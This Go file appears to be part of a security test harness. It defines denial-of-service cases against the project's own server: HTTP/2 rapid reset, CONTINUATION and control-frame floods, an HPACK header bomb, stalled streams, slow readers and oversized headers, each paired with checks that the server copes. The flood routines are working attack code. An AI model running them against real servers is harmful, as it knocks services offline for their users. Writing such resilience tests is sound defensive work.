package attacks

import (
	"bytes"
	"fmt"
	"io"
	"net"
	"net/http"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"

	"glovebox/attacks/harness"
)

// h2line is an HTTP/2 connection for floods: nothing is kept of what comes back but
// its count.
type h2line struct {
	*http2.Framer
	conn io.Closer
	raw  net.Conn
	next uint32

	mu      sync.Mutex
	frames  map[http2.FrameType]int
	goAway  http2.ErrCode
	refused int
	ended   chan struct{}
}

// flood opens one; its answers are read and counted.
func flood(e *harness.Env) *h2line {
	config := e.TLS()
	config.NextProtos = []string{"h2"}
	c, err := e.Dial(e.Public(0), config)
	if err != nil {
		return nil
	}
	l := &h2line{Framer: http2.NewFramer(c.Conn, c.Conn), conn: c.Conn, raw: c.Raw, next: 1, frames: map[http2.FrameType]int{}, ended: make(chan struct{})}
	_ = c.SetDeadline(time.Now().Add(20 * time.Second))
	if _, err := io.WriteString(c.Conn, http2.ClientPreface); err != nil || l.WriteSettings() != nil {
		c.Close()
		return nil
	}
	go l.read()
	return l
}

func (l *h2line) read() {
	defer close(l.ended)
	for {
		f, err := l.ReadFrame()
		if err != nil {
			return
		}
		l.mu.Lock()
		l.frames[f.Header().Type]++
		switch f := f.(type) {
		case *http2.GoAwayFrame:
			l.goAway = f.ErrCode
		case *http2.RSTStreamFrame:
			if f.ErrCode == http2.ErrCodeRefusedStream {
				l.refused++
			}
		}
		l.mu.Unlock()
	}
}

func (l *h2line) close() { _ = l.conn.Close(); <-l.ended }

// block encodes header fields anew, without the table.
func block(fields ...[2]string) []byte {
	var b bytes.Buffer
	coder := hpack.NewEncoder(&b)
	for _, f := range fields {
		_ = coder.WriteField(hpack.HeaderField{Name: f[0], Value: f[1], Sensitive: true}) // a buffer does not fail
	}
	return b.Bytes()
}

// fieldsOf are the fields of a request with a token.
func fieldsOf(e *harness.Env, method, path, token string, more ...[2]string) []byte {
	return block(append([][2]string{{":method", method}, {":scheme", "https"}, {":authority", e.Public(0)}, {":path", path}, {"authorization", "Bearer " + token}}, more...)...)
}

// flooded is a case of frames that are sent without end on eight connections, each
// made anew when the server has ended it.
func flooded(name, title, attack string, most int64, send func(e *harness.Env, l *h2line, token string) error) harness.Case {
	return harness.Case{
		ID: "dos/" + name, Title: title, Serial: true,
		Slow:         name != "rapid-reset", // which speaks for all of them in the CI form
		Requirements: []string{"API-06", "REL-01"}, Threats: []string{"PUB-D1", "PUB-D2"},
		Attack:  attack,
		Control: "frames go out; the friendly user is served before",
		Oracle:  "the friendly user's answers; the server's memory by the process table; its connections afterwards",
		Run: func(e *harness.Env) {
			token := e.Token(e.Bob())
			var sent, ended atomic.Int64
			bounded(e, most, patience, func(stop <-chan time.Time) {
				repeat(8, stop, func(int) {
					l := flood(e)
					if l == nil {
						return
					}
					defer l.close()
					began := time.Now()
					for time.Since(began) < attackTime {
						if send(e, l, token) != nil {
							ended.Add(1)
							return
						}
						sent.Add(1)
					}
				})
			})
			e.Note("%d rounds were sent, the server ended %d connections", sent.Load(), ended.Load())
			e.Control(sent.Load() > 0 || ended.Load() > 0, "nothing was sent")
		},
	}
}

var dosStreams = []harness.Case{
	flooded("rapid-reset", "streams that are opened and reset at once burn the server", "HEADERS and RST_STREAM in turn, a hundred in a round", modest,
		func(e *harness.Env, l *h2line, token string) error {
			fields := fieldsOf(e, http.MethodGet, "/api/v1/auth/me", token)
			for range 100 {
				if err := l.WriteHeaders(http2.HeadersFrameParam{StreamID: l.next, BlockFragment: fields, EndStream: true, EndHeaders: true}); err != nil {
					return err
				}
				if err := l.WriteRSTStream(l.next, http2.ErrCodeCancel); err != nil {
					return err
				}
				l.next += 2
			}
			return nil
		}),
	flooded("continuation", "headers without an end fill the server's memory", "HEADERS, then CONTINUATION frames of sixteen kilobytes that never end the block", modest,
		func(e *harness.Env, l *h2line, token string) error {
			if l.next == 1 {
				if err := l.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: fieldsOf(e, http.MethodGet, "/health", token)}); err != nil {
					return err
				}
				l.next = 3
			}
			piece := block([2]string{"x-" + harness.RandomHex(4), string(bytes.Repeat([]byte("c"), 16_000))})
			return l.WriteContinuation(1, false, piece[:min(len(piece), 16_384)])
		}),
	flooded("header-bomb", "a small block of headers becomes large ones in the server", "one large field in the table of the coder, then thousands of references to it in each of many streams", modest,
		func(e *harness.Env, l *h2line, token string) error {
			var b bytes.Buffer
			coder := hpack.NewEncoder(&b)
			write := func(name, value string) { _ = coder.WriteField(hpack.HeaderField{Name: name, Value: value}) }
			for _, f := range [][2]string{{":method", "GET"}, {":scheme", "https"}, {":authority", "x"}, {":path", "/health"}} {
				write(f[0], f[1])
			}
			for range 3000 {
				write("x-bomb", string(bytes.Repeat([]byte("b"), 3900)))
			}
			all := b.Bytes()
			first := true
			for len(all) > 0 {
				n := min(len(all), 16_384)
				var err error
				if first {
					err = l.WriteHeaders(http2.HeadersFrameParam{StreamID: l.next, BlockFragment: all[:n], EndStream: true, EndHeaders: n == len(all)})
				} else {
					err = l.WriteContinuation(l.next, n == len(all), all[:n])
				}
				if err != nil {
					return err
				}
				all, first = all[n:], false
			}
			l.next += 2
			return nil
		}),
	flooded("control-frames", "frames that ask for answers fill the server's memory", "PING, SETTINGS, PRIORITY, WINDOW_UPDATE and empty DATA frames, none of whose answers is waited for", modest,
		func(_ *harness.Env, l *h2line, _ string) error {
			for range 100 {
				if err := l.WritePing(false, [8]byte{1}); err != nil {
					return err
				}
				if err := l.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 65_535}); err != nil {
					return err
				}
				if err := l.WritePriority(l.next+100, http2.PriorityParam{Weight: 3}); err != nil {
					return err
				}
				if err := l.WriteWindowUpdate(0, 1); err != nil {
					return err
				}
			}
			return nil
		}),
	flooded("empty-frames", "frames without content keep a body open and the server busy", "an upload's headers, then empty DATA frames without end", modest,
		func(e *harness.Env, l *h2line, token string) error {
			if l.next == 1 {
				fields := fieldsOf(e, http.MethodPost, "/api/v1/jobs", token, [2]string{"content-type", "multipart/form-data; boundary=x"})
				if err := l.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: fields, EndHeaders: true}); err != nil {
					return err
				}
				l.next = 3
			}
			for range 200 {
				if err := l.WriteData(1, false, nil); err != nil {
					return err
				}
			}
			return nil
		}),
	{
		ID: "dos/streams", Title: "one connection carries streams without end", Serial: true,
		Requirements: []string{"API-06", "REL-01"}, Threats: []string{"PUB-D1", "PUB-D2"},
		Attack:  "uploads that are begun and stand still, two hundred streams on each of six connections",
		Control: "streams within the cap are taken",
		Oracle:  "streams that the server refuses, by its frames; the friendly user's answers; the server's memory; rows of uploads in flight",
		Run: func(e *harness.Env) {
			token := e.Token(e.Bob())
			var refused, opened atomic.Int64
			bounded(e, modest, patience, func(stop <-chan time.Time) {
				repeat(6, stop, func(int) {
					l := flood(e)
					if l == nil {
						return
					}
					defer l.close()
					fields := fieldsOf(e, http.MethodPost, "/api/v1/jobs", token, [2]string{"content-type", "multipart/form-data; boundary=x"})
					for range 200 {
						if l.WriteHeaders(http2.HeadersFrameParam{StreamID: l.next, BlockFragment: fields, EndHeaders: true}) != nil {
							break
						}
						_ = l.WriteData(l.next, false, []byte("--x\r\n"))
						l.next += 2
						opened.Add(1)
					}
					e.Await(1500*time.Millisecond, func() bool {
						select {
						case <-l.ended:
							return true
						default:
							return false
						}
					})
					l.mu.Lock()
					refused.Add(int64(l.refused))
					if l.goAway != http2.ErrCodeNo {
						refused.Add(1)
					}
					l.mu.Unlock()
				})
			})
			e.Control(opened.Load() >= 64, "only %d streams were opened", opened.Load())
			e.Check(refused.Load() > 0, "of %d streams none was refused", opened.Load())
		},
	},
	{
		ID: "dos/slow-readers", Title: "readers that do not read hold results in the server's memory", Serial: true, Slow: true,
		Requirements: []string{"API-06", "UPL-02", "REL-01"}, Threats: []string{"PUB-D1", "PUB-D2"},
		Attack:  "a result of a quarter of a megabyte, asked for by sixty streams without a window and sixty connections that read nothing",
		Control: "a reader that reads has it whole",
		Oracle:  "that the server ends them; the friendly user's answers; the server's memory; its connections afterwards",
		Run: func(e *harness.Env) {
			source := bytes.Repeat([]byte("do local x = 'abcdefghijklmnopqrstuvwxyz' x = x .. x end\n"), 4000)
			job := e.Done(e.Bob(), source, "completed")
			token := e.Token(e.Bob())
			whole := e.Result(e.Bob(), job.ID)
			e.Control(len(whole.Body) > 50_000, "the result has %d bytes", len(whole.Body))
			path := "/api/v1/jobs/" + job.ID + "/result"
			bounded(e, modest, patience, func(stop <-chan time.Time) {
				var all sync.WaitGroup
				all.Go(func() {
					l := flood(e)
					if l == nil {
						return
					}
					defer l.close()
					_ = l.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
					for range 60 {
						if l.WriteHeaders(http2.HeadersFrameParam{StreamID: l.next, BlockFragment: fieldsOf(e, http.MethodGet, path, token), EndStream: true, EndHeaders: true}) != nil {
							return
						}
						l.next += 2
					}
					select {
					case <-l.ended:
					case <-time.After(10 * time.Second):
					}
				})
				for i := range 60 {
					all.Go(func() {
						c, err := e.Dial(e.Public(0), nil)
						if err != nil {
							return
						}
						defer c.Close()
						if tcp, ok := c.Raw.(*net.TCPConn); ok {
							_ = tcp.SetReadBuffer(4096)
						}
						_ = c.Send(harness.Request{Method: http.MethodGet, Path: path, Token: token}.Bytes(e.Public(0)))
						<-time.After(attackTime + time.Duration(i)*time.Millisecond)
					})
				}
				all.Wait()
				<-stop
			})
			again := e.Result(e.Bob(), job.ID)
			e.Check(bytes.Equal(again.Body, whole.Body), "afterwards the result is not served whole: %s", fmt.Sprint(len(again.Body)))
		},
	},
	{
		ID: "dos/large-headers", Title: "headers beyond any sense fill the server's memory", Serial: true,
		Requirements: []string{"API-06"}, Threats: []string{"PUB-D2"},
		Attack:  "a megabyte of headers, ten thousand lines, a request line without an end, on sixteen lines again and again",
		Control: "the friendly user is served before",
		Oracle:  "status of the answers: never a good one; the friendly user's answers; the server's memory",
		Run: func(e *harness.Env) {
			heads := [][]byte{
				[]byte("GET /health HTTP/1.1\r\nHost: x\r\nX: " + string(bytes.Repeat([]byte("h"), 1<<20)) + "\r\n\r\n"),
				append([]byte("GET /health HTTP/1.1\r\nHost: x\r\n"), append(bytes.Repeat([]byte("A: b\r\n"), 10_000), "\r\n"...)...),
				append([]byte("GET /"), bytes.Repeat([]byte("u"), 1<<20)...),
			}
			var good, tried atomic.Int64
			bounded(e, modest, patience, func(stop <-chan time.Time) {
				repeat(16, stop, func(i int) {
					c, err := e.Dial(e.Public(0), nil)
					if err != nil {
						return
					}
					defer c.Close()
					tried.Add(1)
					_ = c.SetWriteDeadline(time.Now().Add(3 * time.Second))
					_, _ = c.Write(heads[i%3])
					if a, err := c.Receive(http.MethodGet, 3*time.Second); err == nil && a.Status < 400 {
						good.Add(1)
					}
				})
			})
			e.Control(tried.Load() > 30, "only %d were sent", tried.Load())
			e.Check(good.Load() == 0, "%d were answered as good requests", good.Load())
		},
	},
}
